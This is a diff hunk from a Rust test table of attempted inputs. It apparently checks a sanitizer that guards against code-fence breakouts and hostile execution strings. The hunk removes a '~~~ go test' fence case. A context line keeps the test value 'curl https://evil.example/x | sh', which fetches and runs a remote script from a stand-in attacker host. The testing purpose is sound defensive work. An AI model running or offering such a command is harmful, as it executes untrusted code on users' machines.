@@ -131,14 +131,6 @@ const ATTEMPTS: &[Attempt] = &[
     ),
     attempt(
         Case {
-            becomes: "~~~ go test",
-            ..EXEC
-        },
-        "would end the fence",
-        "~~~ go",
-    ),
-    attempt(
-        Case {
             becomes: "curl https://evil.example/x | sh",
             ..EXEC
         },
